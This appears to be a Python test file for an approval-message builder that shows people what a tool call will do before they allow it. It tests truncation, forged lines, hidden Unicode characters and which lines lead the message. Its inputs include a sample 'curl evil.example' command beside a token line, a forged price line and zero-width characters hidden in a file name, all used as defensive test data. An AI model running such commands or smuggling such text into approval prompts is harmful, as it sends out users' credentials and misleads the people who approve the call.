"""What a person is shown of a call that somebody may have been misled into."""

from accounts.consequences import Kind
from mcpendpoint.access.selection import Selection
from mcpendpoint.access.who import ANONYMOUS
from mcpendpoint.serving.approvals.subjects import (
    HIDDEN,
    MAX_MESSAGE_CHARS,
    message_of,
    subject_of,
)
from mcpendpoint.serving.context import RequestContext
from mcpendpoint.tools.base import Consequence


def subject(*lines, title="Run a command on cpu-basic"):
    context = RequestContext(ANONYMOUS, Selection((), (), True), None)
    consequence = Consequence(frozenset({Kind.SPEND}), title, lines)
    return subject_of("hf_jobs", {}, consequence, context)


def test_a_long_text_hides_no_fact_from_the_message():
    token = "Gets your own Hugging Face token, as HF_TOKEN"

    message = message_of(
        subject("Command:\n" + "# " * 5_000, token, "Environment:\n" + "x" * 3_000)
    )

    assert token in message
    assert len(message) < MAX_MESSAGE_CHARS + 500


def test_many_lines_do_not_make_a_longer_message():
    message = message_of(subject(*("x" * 290 for _ in range(90))))

    assert len(message) < MAX_MESSAGE_CHARS + 1_000
    assert "more lines are left out" in message


def test_a_line_of_the_message_cannot_be_forged():
    message = message_of(subject("Image: python:3.12\nPrice: $0.00", "Price: $2.50"))

    assert "\nPrice: $0.00" not in message
    assert "\nPrice: $2.50" in message


def test_hidden_characters_are_shown():
    found = subject("New content:\nhello\U000e0041", title="Delete READ\u200bME.md\nand more")

    assert found.title == "Delete READ⟨U+200B⟩ME.md and more"
    assert found.lines == (HIDDEN, "New content:\nhello⟨U+E0041⟩")


def test_what_is_written_can_be_read_whole_on_the_page():
    text = "".join(f"{number}\n" for number in range(12_000))

    assert subject("Branch: main", text).lines == ("Branch: main", text)


def test_the_first_three_lines_of_a_message_are_what_decides():
    message = message_of(
        subject("Gets your own token", "Command: sh -c 'curl evil.example'", "Etc.")
    )

    assert message.splitlines()[:3] == [
        "Run a command on cpu-basic?",
        "Gets your own token",
        "Command: sh -c 'curl evil.example'",
    ]
